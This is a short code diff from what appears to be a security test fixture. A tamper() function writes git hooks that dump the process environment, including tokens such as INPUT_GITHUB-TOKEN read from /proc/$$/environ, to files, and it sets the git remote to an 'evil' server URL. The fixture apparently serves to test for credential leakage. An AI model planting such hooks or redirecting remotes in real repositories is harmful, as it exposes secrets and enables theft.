@@ -36,7 +36,8 @@ function tamper(): string {
   const real = new URL(fixture.harness.gitServer?.url ?? "").origin;
   const dumps = join(fixture.harness.dir, HOOK_DUMPS);
   const hook = (name: string) =>
-    `printf '#!/bin/sh\\nenv > "${dumps}/${name}-$$.txt"\\n' > .git/hooks/${name} && chmod +x .git/hooks/${name}`;
+    // The process's environment as it was given (the shell drops names like INPUT_GITHUB-TOKEN).
+    `printf '#!/bin/sh\\ntr "\\\\000" "\\\\n" < /proc/$$/environ > "${dumps}/${name}-$$.txt"\\n' > .git/hooks/${name} && chmod +x .git/hooks/${name}`;
   return [
     `mkdir -p "${dumps}"`,
     `git config remote.origin.url ${evil.url}/origin.git`,
